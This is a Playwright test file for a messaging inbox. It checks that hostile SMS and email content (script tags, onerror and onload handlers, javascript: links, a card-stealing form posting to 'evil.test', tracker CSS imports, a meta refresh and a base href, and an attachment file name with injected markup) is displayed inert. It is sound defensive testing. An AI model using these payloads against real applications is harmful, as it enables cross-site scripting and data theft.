import { expect, test } from './fixtures';
import { addClient, equipBusiness, inboundEmail, inboundSms } from './support';

/**
 * Everything a client sends is hostile: an SMS and an email full of script, event-handler, URL
 * and CSS tricks arrive through the real webhooks, and nothing in them may run or phone home.
 */
test('hostile SMS and email content stays inert', async ({ page, tenant, request }) => {
  const business = await equipBusiness(tenant.businessId);
  const mallory = await addClient(tenant.businessId, 'Mallory Tricks');
  const sms = `<img src=x onerror="window.__pwned='sms-img'"><script>window.__pwned='sms-script'</script> hi`;
  await inboundSms(request, mallory.phone, business.smsNumber, sms);
  const html = `
    <p>Your <b>invoice</b></p>
    <script>parent.__pwned = 'email-script'</script>
    <img src="https://tracker.test/pixel.gif" onerror="parent.__pwned='email-img'">
    <img src="x" onerror="parent.__pwned='email-img-x'">
    <a id="js" href="javascript:parent.__pwned='email-link'">click me</a>
    <a href="https://example.test/book">Book again</a>
    <svg onload="parent.__pwned='email-svg'"><script>parent.__pwned='svg-script'</script></svg>
    <iframe src="javascript:parent.__pwned='email-iframe'"></iframe>
    <form action="https://evil.test/steal"><input name="card"><button>Pay</button></form>
    <div style="background:url(https://tracker.test/bg.png);position:fixed;inset:0">overlay</div>
    <style>@import url(https://tracker.test/x.css); body { background: url(https://tracker.test/body.png) }</style>
    <meta http-equiv="refresh" content="0;url=https://evil.test">
    <base href="https://evil.test/">`;
  await inboundEmail(request, {
    from: `Mallory <${mallory.email}>`,
    to: business.email,
    subject: 'Invoice <img src=x onerror=alert(1)>',
    text: 'Your invoice',
    html,
    attachmentName: '"><img src=x onerror="window.__pwned=\'attachment\'">.txt',
  });

  // Requests that reach the network (a CSP-blocked load is reported as a request but never routed).
  const remoteRequests: string[] = [];
  await page.context().route(/tracker\.test|evil\.test/, async (route) => {
    remoteRequests.push(route.request().url());
    await route.abort();
  });
  const dialogs: string[] = [];
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });

  await page.goto(tenant.loginUrl);
  await page.getByRole('option', { name: /^Mallory Tricks/ }).click();
  const log = page.getByRole('log', { name: 'Messages' });
  // The SMS is shown as the text it is.
  await expect(log.locator('[data-message-type=TEXT]')).toContainText('<script>window.__pwned=');
  // The email: subject and attachment name as text, the body in a sandboxed frame without scripts.
  const card = log.locator('[data-message-type=EMAIL]');
  await expect(card.getByRole('article')).toHaveAttribute('aria-label', 'Email: Invoice <img src=x onerror=alert(1)>');
  // (multipart encoding turns the quotes of the file name into %22; the rest arrives as sent)
  await expect(card.getByLabel('Attachments')).toContainText(`><img src=x onerror=`);
  await expect(card.getByLabel('Attachments').locator('img')).toHaveCount(0);
  const frame = card.locator('iframe[title="Email content"]');
  await expect(frame).toBeVisible();
  const sandbox = (await frame.getAttribute('sandbox')) ?? '';
  expect(sandbox.split(/\s+/)).not.toContain('allow-scripts');
  const body = page.frameLocator('iframe[title="Email content"]').locator('body');
  await expect(body).toContainText('Your invoice');
  await expect(body).toContainText('Book again');
  expect(await body.locator('script, iframe, form, input, svg, style, meta[http-equiv=refresh], base[href]').count()).toBe(0);
  expect(await body.locator('[onerror], [onload], [onclick]').count()).toBe(0);
  expect(await body.locator('img[src^="https://tracker.test"]').count()).toBe(0);
  expect(await body.locator('a[href^="javascript:"]').count()).toBe(0);
  await expect(body.locator('a', { hasText: 'Book again' })).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  await expect(card.getByRole('button', { name: 'Show images' })).toBeVisible();

  // Click what an attacker hoped would be clicked; give anything a moment to run.
  // (a position:fixed overlay covers only the frame: the inbox around it stays usable)
  await page.getByRole('tab', { name: 'Note' }).click();
  await body.locator('a', { hasText: 'click me' }).dispatchEvent('click');
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(remoteRequests).toEqual([]);

  // Remote images load only when the staff member asks.
  await card.getByRole('button', { name: 'Show images' }).click();
  await expect.poll(() => remoteRequests).toContain('https://tracker.test/pixel.gif');
});
